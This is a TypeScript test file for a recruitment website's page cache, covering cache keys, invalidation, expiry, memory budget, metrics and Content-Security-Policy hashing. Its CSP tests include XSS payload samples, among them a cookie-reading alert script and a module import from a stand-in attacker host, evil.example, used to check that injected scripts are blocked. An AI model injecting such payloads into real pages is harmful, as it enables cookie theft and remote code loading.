import { createHash } from 'node:crypto';
import type { Request as ExpressRequest } from 'express';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { SCRIPT_MARK_HEADER } from './csp';
import { STATIC_PAGES } from '~/content/static-pages';
import { expiresAtHeader } from '~/lib/page-expiry';
import { measurePageCache, registry } from '~/lib/metrics.server';
import { metricValue } from '../test/metrics';
import {
  entrySize,
  identityOf,
  PageCache,
  pageRequestOf,
  toCachedPage,
  type CachedPage,
  type PageRequest,
} from './page-cache';

afterEach(() => {
  vi.useRealTimers();
});

/** The parts of an Express request `pageRequestOf` reads. */
function expressRequest(url: string, { method = 'GET', cookie }: { method?: string; cookie?: string } = {}) {
  const parsed = new URL(url, 'http://site.test');
  return {
    method,
    path: parsed.pathname,
    query: Object.fromEntries(parsed.searchParams),
    protocol: 'http',
    headers: cookie ? { cookie } : {},
    get: (name: string) => (name.toLowerCase() === 'host' ? 'site.test' : undefined),
  } as unknown as ExpressRequest;
}

describe('which requests the cache answers', () => {
  it('keys each language apart: an Arabic page is the same route under /ar (docs/026-languages.md)', () => {
    expect(pageRequestOf(expressRequest('/ar/blog?q=go&fbclid=abc'))).toEqual({
      url: 'http://site.test/ar/blog?q=go',
      tags: ['*', 'jobs', 'articles'],
      streamed: false,
    });
    expect(pageRequestOf(expressRequest('/ar'))?.url).toBe('http://site.test/ar');
    expect(pageRequestOf(expressRequest('/ar.data'))?.url).toBe('http://site.test/ar.data');
    expect(pageRequestOf(expressRequest('/ar/jobs/nurse-dubai'))?.tags).toEqual(['*', 'job:nurse-dubai']);
    expect(pageRequestOf(expressRequest('/ar/admin'))).toBeNull();
  });

  it('answers every public page of the sitemap in both languages, so that each loads its scripts after its paint', () => {
    // /accessibility and /hire were rendered for every visit, their scripts hinted in the head (script-loading.ts).
    for (const { path } of STATIC_PAGES)
      for (const address of [path, path === '/' ? '/ar' : `/ar${path}`])
        expect(pageRequestOf(expressRequest(address))?.url, address).toBe(`http://site.test${address}`);
  });

  it('keys a page by its URL with only the query parameters it reads', () => {
    expect(pageRequestOf(expressRequest('/blog?page=2&fbclid=abc&utm_source=x'))).toEqual({
      url: 'http://site.test/blog?page=2',
      tags: ['*', 'jobs', 'articles'],
      streamed: false,
    });
    expect(pageRequestOf(expressRequest('/jobs/nurse-dubai?ref=linkedin'))?.url).toBe(
      'http://site.test/jobs/nurse-dubai',
    );
    expect(pageRequestOf(expressRequest('/jobs/nurse-dubai'))?.tags).toEqual(['*', 'job:nurse-dubai']);
    expect(pageRequestOf(expressRequest('/contact?service=it-staffing&x=1'))?.url).toBe(
      'http://site.test/contact?service=it-staffing',
    );
  });

  it("never answers the pages of a job alert email's links: they are one person's (docs/014-job-alerts.md)", () => {
    const token = 'T'.repeat(43);
    expect(pageRequestOf(expressRequest(`/alerts/confirm?token=${token}`))).toBeNull();
    expect(pageRequestOf(expressRequest(`/alerts/unsubscribe?token=${token}`))).toBeNull();
    expect(pageRequestOf(expressRequest(`/alerts/unsubscribe.data?token=${token}`))).toBeNull();
  });

  it('takes a parameter by the rule of its page, so that no value the page ignores splits the cache', () => {
    // Page 1 is the board's default, named or not (docs/011-job-search.md: the board's parameters by the contract's
    // one rule).
    expect(pageRequestOf(expressRequest('/blog?page=abc'))?.url).toBe('http://site.test/blog');
    expect(pageRequestOf(expressRequest('/blog?page=03'))?.url).toBe('http://site.test/blog?page=3');
    expect(pageRequestOf(expressRequest('/contact?service=<script>'))?.url).toBe('http://site.test/contact');
  });

  it("keys the job board's search by the rule its loader reads it with: unknown values and defaults left out", () => {
    expect(
      pageRequestOf(
        expressRequest(
          '/blog?q=%20nurse%20&category=healthcare&type=Full-time&country=ae&workplace=remote&sort=closing&page=2&utm_source=x',
        ),
      )?.url,
    ).toBe(
      'http://site.test/blog?category=healthcare&country=AE&page=2&q=nurse&sort=closing&type=full-time&workplace=remote',
    );
    expect(
      pageRequestOf(expressRequest('/blog?q=&category=&type=astronaut&country=XX&workplace=moon&sort=newest&page=1'))
        ?.url,
    ).toBe('http://site.test/blog');
  });

  it('keys the job feeds: /jobs.xml, and /blog/jobs.rss by its normalized search (not as an article page)', () => {
    expect(pageRequestOf(expressRequest('/jobs.xml?utm_source=indeed'))).toEqual({
      url: 'http://site.test/jobs.xml',
      tags: ['*', 'jobs'],
      streamed: false,
    });
    expect(
      pageRequestOf(expressRequest('/blog/jobs.rss?workplace=Remote&q=%20React%20&type=Full-Time&country=xx&fbclid=1')),
    ).toEqual({
      url: 'http://site.test/blog/jobs.rss?q=React&type=full-time&workplace=remote',
      tags: ['*', 'jobs'],
      streamed: false,
    });
  });

  it("keeps React Router's _routes of a data request, which is streamed", () => {
    expect(pageRequestOf(expressRequest('/_root.data?_routes=routes%2F_public%2Fhome&x=1'))).toMatchObject({
      url: 'http://site.test/_root.data?_routes=routes%2F_public%2Fhome',
      tags: ['*', 'articles'],
      streamed: true,
    });
  });

  it('leaves staff, form posts and other paths to React Router', () => {
    expect(pageRequestOf(expressRequest('/blog', { cookie: 'a=1; __staff_session=xyz' }))).toBeNull();
    // The page an applicant is redirected to after applying without JavaScript (its cookie is on that page's path).
    expect(pageRequestOf(expressRequest('/jobs/nurse-dubai', { cookie: '__applied=eyJ9' }))).toBeNull();
    expect(pageRequestOf(expressRequest('/contact', { method: 'POST' }))).toBeNull();
    for (const path of [
      '/admin/dashboard',
      '/blog/admin/applications',
      '/resources/job-applications',
      '/uploads/x.png',
    ]) {
      expect(pageRequestOf(expressRequest(path)), path).toBeNull();
    }
  });

  it('keeps the list of articles by its page, and purges it when articles change', () => {
    expect(pageRequestOf(expressRequest('/insights?page=02&utm_source=x'))).toEqual({
      url: 'http://site.test/insights?page=2',
      tags: ['*', 'articles'],
      streamed: false,
    });
  });
});

const page = (text: string, init: ResponseInit = {}) =>
  new Response(`<!doctype html><p>${text}</p>`, {
    status: 200,
    ...init,
    headers: { 'Content-Type': 'text/html; charset=utf-8', ...init.headers },
  });
const request = (url = 'http://site.test/blog', tags = ['*', 'jobs']): PageRequest => ({ url, tags, streamed: false });
/** A cached page's text, as a client taking neither brotli nor gzip gets it. */
const text = async (cached: CachedPage) => (await identityOf(cached)).toString('utf8');

describe('PageCache', () => {
  it('stops serving a page when its content stops being true (a job closes), fresh or not', async () => {
    vi.useFakeTimers({ now: new Date('2026-11-23T12:00:00Z') });
    const cache = new PageCache();
    let version = 0;
    const render = vi.fn(async () => {
      version += 1;
      return page(`board ${version}`, {
        headers: expiresAtHeader([null, '2026-11-23T12:00:05Z', '2026-11-24T00:00:00Z']),
      });
    });
    await cache.refresh(request(), render);
    vi.setSystemTime(new Date('2026-11-23T12:00:04Z'));
    expect(await text(cache.lookup(request(), render)!)).toContain('board 1');
    vi.setSystemTime(new Date('2026-11-23T12:00:05Z'));
    expect(cache.lookup(request(), render)).toBeUndefined();
    const renewed = await cache.refresh(request(), render);
    expect(await text(renewed)).toContain('board 2');
    expect(renewed.headers).not.toHaveProperty('x-page-expires');
  });

  it('renders a page once and answers it from memory, compressed ahead', async () => {
    const cache = new PageCache();
    const render = vi.fn(async () => page('board'));
    const first = await cache.refresh(request(), render);
    expect(cache.lookup(request(), render)).toBe(first);
    expect(render).toHaveBeenCalledTimes(1);
    expect(first.gzip?.length).toBeGreaterThan(0);
    expect(first.br?.length).toBeGreaterThan(0);
  });

  it('renders once for everybody asking at the same time', async () => {
    const cache = new PageCache();
    let finish!: (response: Response) => void;
    const render = vi.fn(() => new Promise<Response>((resolve) => (finish = resolve)));
    const waiting = [1, 2, 3].map(() => cache.refresh(request(), render));
    finish(page('board'));
    const pages = await Promise.all(waiting);
    expect(render).toHaveBeenCalledTimes(1);
    expect(new Set(pages).size).toBe(1);
  });

  it('never serves a page again once something it shows has changed', async () => {
    const cache = new PageCache();
    await cache.refresh(request(), async () => page('old title'));
    await cache.refresh(request('http://site.test/about', ['*']), async () => page('about'));
    cache.invalidate(['jobs']);
    expect(cache.lookup(request(), async () => page('x'))).toBeUndefined();
    expect(cache.lookup(request('http://site.test/about', ['*']), async () => page('x'))).toBeDefined();
    cache.invalidate(['*']);
    expect(cache.lookup(request('http://site.test/about', ['*']), async () => page('x'))).toBeUndefined();
  });

  it('does not keep a page whose render started before a change, and renders again for later requests', async () => {
    const cache = new PageCache();
    let finish!: (response: Response) => void;
    const before = cache.refresh(request(), () => new Promise<Response>((resolve) => (finish = resolve)));
    cache.invalidate(['jobs']);
    const after = cache.refresh(request(), async () => page('new title'));
    finish(page('old title'));
    expect(await text(await before)).toContain('old title');
    expect(await text(await after)).toContain('new title');
    expect(await text(cache.lookup(request(), async () => page('x'))!)).toContain('new title');
  });

  it('serves a stale page at once while it renders a new one, and stops serving it after the stale window', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const cache = new PageCache();
    await cache.refresh(request(), async () => page('first'));
    vi.setSystemTime(Date.now() + 61_000);
    const render = vi.fn(async () => page('second'));
    expect(await text(cache.lookup(request(), render)!)).toContain('first');
    await vi.waitFor(async () => expect(await text(cache.lookup(request(), render)!)).toContain('second'));
    expect(render).toHaveBeenCalledTimes(1);
    vi.setSystemTime(Date.now() + 11 * 60_000);
    expect(cache.lookup(request(), render)).toBeUndefined();
  });

  it('holds no more memory than its budget: every kept page owns exactly the bytes it counts', async () => {
    const budget = 1024 * 1024;
    const cache = new PageCache(budget);
    // Distinct searches of the board, each a page of its own of about 30 kB (compressed to a few kB).
    const searches = Array.from({ length: 400 }, (_, index) => request(`http://site.test/blog?q=search-${index}`));
    for (const [index, search] of searches.entries()) {
      const rows = Array.from({ length: 600 }, (_, row) => `<li>${index}-${row}: an open role</li>`).join('');
      await cache.refresh(search, async () => page(rows));
    }
    const kept = searches.map((search) => cache.fresh(search)).filter((entry) => entry !== undefined);
    expect(kept.length).toBeGreaterThan(5);
    expect(kept.length).toBeLessThan(searches.length);
    // What stays alive is each body's whole ArrayBuffer: a view of a larger one keeps all of it.
    const held = new Set(kept.flatMap(({ gzip, br }) => [gzip!.buffer, br!.buffer]));
    const heldBytes = [...held].reduce((sum, buffer) => sum + buffer.byteLength, 0);
    expect(heldBytes).toBeLessThanOrEqual(budget);
    for (const { body, gzip, br } of kept) {
      expect(body, 'the rendered bytes are not kept').toBeNull();
      for (const bytes of [gzip!, br!]) expect(bytes.buffer.byteLength).toBe(bytes.length);
    }
  });

  it('keeps a page compressed only, and gives a client taking neither brotli nor gzip its rendered bytes unchanged', async () => {
    const cache = new PageCache();
    // A feed: its bytes are stored as rendered (HTML gets its scripts' loader and CSP first).
    const xml = `<?xml version="1.0"?><rss>${'<item>An open role in Dubai, £40,000 — apply</item>'.repeat(500)}</rss>`;
    const render = async () => new Response(xml, { headers: { 'Content-Type': 'application/rss+xml; charset=utf-8' } });
    const kept = await cache.refresh(request('http://site.test/jobs.xml'), render);
    expect(kept.body).toBeNull();
    expect((await identityOf(kept)).toString('utf8')).toBe(xml);
    // Counted by what it holds: its two compressed forms, a small part of the page's own size.
    expect(entrySize('http://site.test/jobs.xml', kept)).toBeLessThan(Buffer.byteLength(xml) / 4);
    // An answer not kept (a 404) keeps its bytes: there is nothing to make them from.
    const missing = await cache.refresh(request('http://site.test/blog/gone'), async () =>
      page('gone', { status: 404 }),
    );
    expect(missing.gzip).toBeNull();
    expect((await identityOf(missing)).toString('utf8')).toBe('<!doctype html><p>gone</p>');
  });

  it('keeps only 200 answers without cookies', async () => {
    const cache = new PageCache();
    await cache.refresh(request(), async () => page('gone', { status: 404 }));
    expect(cache.lookup(request(), async () => page('x'))).toBeUndefined();
    await cache.refresh(request(), async () => page('mine', { headers: { 'Set-Cookie': 'a=1' } }));
    expect(cache.lookup(request(), async () => page('x'))).toBeUndefined();
  });
});

describe("the page cache's metrics", () => {
  it('counts hits, misses and evictions, and reports the bytes and pages it holds at a scrape', async () => {
    const [hits, misses, evictions] = await Promise.all(
      ['hits', 'misses', 'evictions'].map((name) => metricValue(`agency_web_page_cache_${name}_total`)),
    );
    const cache = new PageCache(5_000);
    const render = async () => page('x'.repeat(700));
    expect(cache.lookup(request('http://site.test/a'), render)).toBeUndefined();
    await cache.refresh(request('http://site.test/a'), render);
    expect(cache.lookup(request('http://site.test/a'), render)).toBeDefined();
    expect(cache.lookup(request('http://site.test/a'), render)).toBeDefined();
    expect(await metricValue('agency_web_page_cache_hits_total')).toBe(hits + 2);
    expect(await metricValue('agency_web_page_cache_misses_total')).toBe(misses + 1);
    // Each page takes about 2,000 bytes (its compressed forms and the 1 kB of `entrySize` around them): the third
    // pushes the first out of 5,000.
    await cache.refresh(request('http://site.test/b'), render);
    expect(await metricValue('agency_web_page_cache_evictions_total')).toBe(evictions);
    await cache.refresh(request('http://site.test/c'), render);
    expect(await metricValue('agency_web_page_cache_evictions_total')).toBe(evictions + 1);
    expect(cache.size.entries).toBe(2);
    expect(cache.size.bytes).toBeGreaterThan(3_400);
    expect(cache.size.bytes).toBeLessThanOrEqual(5_000);
    measurePageCache(() => cache.size);
    const text = await registry.metrics();
    expect(text).toContain(`agency_web_page_cache_size_bytes ${cache.size.bytes}`);
    expect(text).toContain('agency_web_page_cache_entries 2');
  });
});

describe('the CSP of a cached page', () => {
  const sha = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
  const MARK = 'cmVuZGVyLW1hcmstMTIzNA==';

  /** The inline scripts of `html` that a browser enforcing `policy` runs: those whose hash `script-src` lists. */
  function scriptsAllowed(html: string, policy: string): string[] {
    const scriptSrc = policy.split('; ').find((directive) => directive.startsWith('script-src ')) ?? '';
    return [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)]
      .filter(([, attributes]) => !/\bsrc=|application\/ld\+json/.test(attributes))
      .map(([, , text]) => text)
      .filter((text) => scriptSrc.split(' ').includes(sha(text)));
  }

  /** A page as the cache's render gives it: the scripts the app rendered carry the render's mark. */
  function rendered(html: string, mark: string | null = MARK) {
    const headers: Record<string, string> = { 'Content-Type': 'text/html; charset=utf-8' };
    if (mark) headers[SCRIPT_MARK_HEADER] = mark;
    return toCachedPage(new Response(html, { headers }));
  }

  it('allows the inline scripts the app rendered by hash, not data blocks, not external scripts, and no nonce', async () => {
    const html =
      `<body><script nonce="${MARK}">window.__a = 1;</script>` +
      `<script nonce="${MARK}" type="module">import("/assets/x.js");</script>` +
      '<script type="application/ld+json">{"@type":"JobPosting"}</script><script src="/assets/y.js"></script></body>';
    const { page: cached } = await rendered(html);
    const csp = cached.headers['content-security-policy'];
    expect(csp).toContain(`script-src 'self' ${sha('window.__a = 1;')} ${sha('import("/assets/x.js");')}`);
    expect(csp).not.toContain(sha('{"@type":"JobPosting"}'));
    expect(csp).not.toContain('nonce');
    expect(csp).toContain("frame-ancestors 'none'");
    // The mark is the render's secret: it is not served, neither in the HTML nor as a header.
    expect(await text(cached)).not.toContain(MARK);
    expect(await text(cached)).toContain('<script>window.__a = 1;</script>');
    expect(cached.headers).not.toHaveProperty(SCRIPT_MARK_HEADER);
  });

  it('allows no script that reached the HTML another way (an injection), even one copying a real script', async () => {
    const injected = [
      '<script>alert(document.cookie)</script>',
      '<script type="module">import("https://evil.example/x.js")</script>',
      '<script nonce="guessed">alert(2)</script>',
      '<script>window.__a = 1;alert(3)</script>',
    ];
    const html =
      `<html><head><link rel="modulepreload" href="/assets/a.js"></head><body><article>${injected.join('')}</article>` +
      `<script nonce="${MARK}">window.__a = 1;</script></body></html>`;
    const { page: cached } = await rendered(html);
    const served = await text(cached);
    const allowed = scriptsAllowed(served, cached.headers['content-security-policy']);
    // The app's own script and the loader of its module hints (script-loading.ts) run; nothing injected does.
    expect(allowed).toHaveLength(2);
    expect(allowed[0]).toBe('window.__a = 1;');
    expect(allowed[1]).toContain('"/assets/a.js"');
    for (const script of injected) expect(served).toContain(script);
  });

  it('allows no inline script at all in a page rendered without a mark', async () => {
    const { page: cached } = await rendered('<body><script>window.__a = 1;</script></body>', null);
    expect(cached.headers['content-security-policy']).toMatch(/(?:^|; )script-src 'self'(?:;|$)/);
    expect(scriptsAllowed(await text(cached), cached.headers['content-security-policy'])).toEqual([]);
  });
});
